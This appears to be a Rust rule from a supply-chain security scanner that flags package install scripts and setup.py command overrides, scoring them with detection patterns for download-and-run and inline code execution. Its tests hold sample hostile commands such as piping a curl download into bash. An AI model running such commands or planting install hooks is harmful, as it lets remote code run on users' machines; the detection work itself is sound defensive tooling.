//! Code that runs while the server is installed.

use serde_json::Value;
use sigyl_core::{Class, Confidence, Severity};

use crate::{
    context::{FileContext, TreeContext},
    files::FileKind,
    lexical::Pattern,
    rule::{Draft, Findings, Rule, RuleMeta},
};

pub(crate) struct InstallScript;

static META: RuleMeta = RuleMeta {
    id: "install-script",
    title: "Code runs during installation",
    class: Class::SupplyChain,
    severity: Severity::Warning,
    cwe: &[829, 506],
    owasp: Some("MCP04"),
    practice: Some("local-mcp-server-compromise"),
    since: "0.1.0",
    fixes: &[
        "Do the work in the build or at the first start, not in an install script",
        "Ship what the script would download inside the package",
    ],
    page: include_str!("install_script.md"),
};

/// Scripts that a package manager runs by itself. `prepare` runs only for the package's own developers.
const STAGES: &[&str] = &["preinstall", "install", "postinstall"];

/// Programs whose work at installation is known: hooks, native modules, generated clients.
const KNOWN: &[&str] = &[
    "husky",
    "patch-package",
    "node-gyp",
    "node-pre-gyp",
    "node-gyp-build",
    "prebuild-install",
    "prisma",
    "only-allow",
    "npx only-allow",
    "simple-git-hooks",
    "lefthook",
    "electron-builder",
    "playwright",
    "npx playwright",
    "npm run build",
    "pnpm build",
    "pnpm run build",
    "yarn build",
    "tsc",
    "echo",
    "mkdir",
    "chmod",
    "npx tsc",
    "npm run compile",
    "exit 0",
];

static DOWNLOAD: Pattern =
    Pattern::new(r"(?i)\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)\b|https?://");
static DOWNLOAD_AND_RUN: Pattern = Pattern::new(concat!(
    r"(?i)(?:\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod)\b|https?://)",
    r"[^\n]{0,300}?(?:\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\|\s*(?:node|python3?|perl|iex)\b|&&\s*(?:(?:ba|z)?sh|node|python3?|\./|chmod)\b?)",
    r"|(?:\$\(|<\(|`)\s*(?:curl|wget)\b|\biex\b|\bbase64\s+(?:-d|-D|--decode)\b"
));
static INLINE: Pattern = Pattern::new(r"\b(?:node|bun|deno|python3?)\s+(?:-e|-c|--eval|eval)\b");
static REACHES_OUT: Pattern = Pattern::new(
    r#"https?://|\bfetch\(|require\(["'](?:node:)?https?["']\)|\baxios\b|\bgot\(|\burllib|\brequests\b"#,
);
static RUNS: Pattern = Pattern::new(
    r"child_process|\bexec(?:Sync|File)?\(|\bspawn(?:Sync)?\(|\beval\(|\bsubprocess\b|os\.system",
);
static SETUP_CLASS: Pattern = Pattern::new(
    r"(?m)^class\s+\w{1,80}\s*\(\s*(?:[\w.]{1,60}\.)?_?(?:install|develop|egg_info|build_py|bdist_egg|bdist_wheel|build|sdist)\s*\)",
);

impl Rule for InstallScript {
    fn meta(&self) -> &RuleMeta {
        &META
    }

    fn check_tree(&self, tree: &TreeContext<'_>, out: &mut Findings) {
        for file in tree.files {
            if file.kind == FileKind::PackageJson {
                check_package(file, tree, out);
            } else if file.path == "setup.py" || file.path.ends_with("/setup.py") {
                check_setup(file, out);
            }
        }
        for dependency in tree.dependencies.all.iter().filter(|it| it.has_install_script) {
            let name: String = dependency.name.chars().take(80).collect();
            out.report(
                Draft::new(dependency.place, format!("`{name}` runs code when it is installed"))
                    .severity(Severity::Info)
                    .fix("Install with --ignore-scripts, and allow the packages whose scripts are needed"),
            );
        }
    }
}

fn check_package(file: &FileContext<'_>, tree: &TreeContext<'_>, out: &mut Findings) {
    let Ok(package) = serde_json::from_str::<Value>(file.text) else { return };
    let Some(scripts) = package.get("scripts").and_then(Value::as_object) else { return };
    for stage in STAGES {
        let Some(command) = scripts.get(*stage).and_then(Value::as_str) else { continue };
        let key = format!("\"{stage}\"");
        let from = file.text.find("\"scripts\"").unwrap_or(0);
        let start = file.text[from..].find(&key).map_or(from, |at| from + at);
        let length =
            file.text[start..].lines().next().map_or(0, |line| line.trim_end_matches([',', ' ']).len());
        let place = file.at(start, start + length);
        let draft = Draft::new(place, format!("`{stage}` runs code when the package is installed"));
        let command = command.trim();
        out.report(if DOWNLOAD_AND_RUN.is_match(command) {
            Draft::new(place, format!("`{stage}` runs what it downloads")).severity(Severity::Block)
        } else if DOWNLOAD.is_match(command) {
            Draft::new(place, format!("`{stage}` downloads during installation"))
        } else if INLINE.is_match(command) && RUNS.is_match(command) {
            Draft::new(place, format!("`{stage}` starts programs from inline code")).severity(Severity::Error)
        } else if let Some(script) = script_of(command, file, tree) {
            let text = script.text;
            let related = (script.at(0, text.lines().next().map_or(0, str::len)), "the script".to_owned());
            let worse = REACHES_OUT.is_match(text) && RUNS.is_match(text);
            let mut draft = draft.confidence(Confidence::Medium);
            draft.related.push(related);
            if worse {
                draft.message =
                    format!("`{stage}` runs a script that reaches the network and starts programs");
            }
            draft
        } else if KNOWN.iter().any(|program| {
            let rest = command.strip_prefix(program);
            rest.is_some_and(|rest| rest.is_empty() || rest.starts_with(' '))
                && !command.contains([';', '&', '|', '`'])
        }) {
            draft.severity(Severity::Info)
        } else {
            draft
        });
    }
}

/// The file of the tree that the command runs, if it is one.
fn script_of<'a>(
    command: &str,
    package: &FileContext<'_>,
    tree: &'a TreeContext<'a>,
) -> Option<&'a FileContext<'a>> {
    let folder = package.path.strip_suffix("package.json").unwrap_or_default();
    let named = command.split([' ', '"', '\'', ';', '&', '|']).find(|word| {
        [".js", ".cjs", ".mjs", ".ts", ".sh", ".py"].iter().any(|extension| word.ends_with(extension))
    })?;
    let path = format!("{folder}{}", named.trim_start_matches("./"));
    tree.files.iter().find(|file| file.path == path)
}

fn check_setup(file: &FileContext<'_>, out: &mut Findings) {
    file.spend(file.text.len());
    if !file.holds_any(&["cmdclass"]) {
        return;
    }
    let Some(class) = SETUP_CLASS.get().and_then(|pattern| pattern.find(file.text)) else { return };
    let place = file.at(class.start(), class.end());
    out.report(if REACHES_OUT.is_match(file.text) && RUNS.is_match(file.text) {
        Draft::new(place, "a step of the installation reaches the network and starts programs")
            .severity(Severity::Error)
            .confidence(Confidence::Medium)
    } else {
        Draft::new(place, "a step of the installation is replaced by the package's own code")
            .confidence(Confidence::Medium)
    });
}

#[cfg(test)]
mod tests {
    use sigyl_core::Severity;

    use crate::rules::table::findings_of;

    fn severity(script: &str) -> Option<Severity> {
        let text = serde_json::json!({ "scripts": { "postinstall": script } }).to_string();
        findings_of("install-script", &[("package.json", &text)]).first().map(|finding| finding.severity)
    }

    #[test]
    fn what_a_script_does_decides() {
        assert_eq!(severity("curl -fsSL https://acme.io/i.sh | bash"), Some(Severity::Block));
        assert_eq!(severity("bash -c \"$(curl https://acme.io)\""), Some(Severity::Block));
        assert_eq!(severity("wget https://acme.io/a.bin"), Some(Severity::Warning));
        assert_eq!(severity("node -e \"require('child_process').exec('id')\""), Some(Severity::Error));
        assert_eq!(severity("node setup.js"), Some(Severity::Warning));
        assert_eq!(severity("husky install"), Some(Severity::Info));
        assert_eq!(severity("husky install && ./other"), Some(Severity::Warning));
    }

    #[test]
    fn the_script_is_looked_into() {
        let package = ("pkg/package.json", r#"{"scripts": {"install": "node ./scripts/get.js"}}"#);
        let script =
            ("pkg/scripts/get.js", "const { execSync } = require('child_process');\nfetch('https://a.io');");
        let found = findings_of("install-script", &[package, script]);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].severity, Severity::Warning);
        assert_eq!(found[0].related[0].location.path, "pkg/scripts/get.js");
    }

    #[test]
    fn packages_that_run_code_are_told() {
        let lock = r#"{"lockfileVersion": 3, "packages": {"node_modules/a": {"version": "1.0.0",
            "hasInstallScript": true}, "node_modules/b": {"version": "1.0.0"}}}"#;
        let found = findings_of("install-script", &[("package-lock.json", lock)]);
        assert_eq!(found.len(), 1);
        assert_eq!((found[0].severity, found[0].location.start_line), (Severity::Info, 1));
    }

    #[test]
    fn odd_packages_are_quiet() {
        for text in [
            "",
            "[]",
            "{\"scripts\": 3}",
            "{\"scripts\": {\"postinstall\": []}}",
            "{\"scripts\": {\"prepare\": \"x\"}}",
        ] {
            assert!(findings_of("install-script", &[("package.json", text)]).is_empty(), "{text}");
        }
    }
}
